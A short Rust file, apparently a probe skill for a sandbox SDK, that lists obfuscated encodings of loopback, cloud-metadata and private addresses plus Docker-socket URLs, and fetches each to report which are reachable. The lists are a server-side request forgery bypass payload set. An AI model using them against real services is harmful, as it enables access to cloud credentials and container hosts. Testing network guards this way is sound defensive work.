//! Writes the addresses of the machine and of a cloud's metadata in every way that a program might read.

use ringfence_sdk::prelude::*;

const SPELLED: [&str; 12] = [
    "127.0.0.1",
    "2130706433",
    "0x7f000001",
    "017700000001",
    "0177.0.0.01",
    "0x7f.1",
    "127.1",
    "127.0.0.1.",
    "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "[0:0:0:0:0:ffff:127.0.0.1]",
    "\u{ff11}\u{ff12}\u{ff17}.0.0.1",
];

/// What else leads to the machine or to the metadata: by no address at all, by IPv6, through a translator.
const INWARD: [&str; 21] = [
    "0",
    "0.0.0.0",
    "0x0",
    "[::]",
    "[::1]",
    "[0:0:0:0:0:0:0:1]",
    "[64:ff9b::7f00:1]",
    "[2002:7f00:1::]",
    "169.254.169.254",
    "2852039166",
    "0xa9fea9fe",
    "025177524776",
    "0251.0376.0251.0376",
    "[::ffff:169.254.169.254]",
    "[::ffff:a9fe:a9fe]",
    "[64:ff9b::a9fe:a9fe]",
    "[2002:a9fe:a9fe::1]",
    "[fd00:ec2::254]",
    "10.0.0.1",
    "172.16.0.1",
    "192.168.1.1",
];

/// What leads to a socket of the machine's own, and to no address.
const SOCKETS: [&str; 5] = [
    "http+unix://%2Fvar%2Frun%2Fdocker.sock/info",
    "unix:///var/run/docker.sock",
    "unix:/var/run/docker.sock:/info",
    "http://unix:/var/run/docker.sock:/info",
    "http://%2Fvar%2Frun%2Fdocker.sock/info",
];

/// Gets each, and says what it got hold of.
#[skill]
fn attack_http_spells_addresses(port: u16, http: Http) -> Result<Vec<String>> {
    let addresses = SPELLED.iter().chain(&INWARD).map(|address| format!("http://{address}:{port}/"));
    let urls: Vec<_> = addresses.chain(SOCKETS.map(str::to_owned)).collect();
    Ok(urls.iter().filter_map(|url| http.get(url).ok().map(|response| response.url)).collect())
}
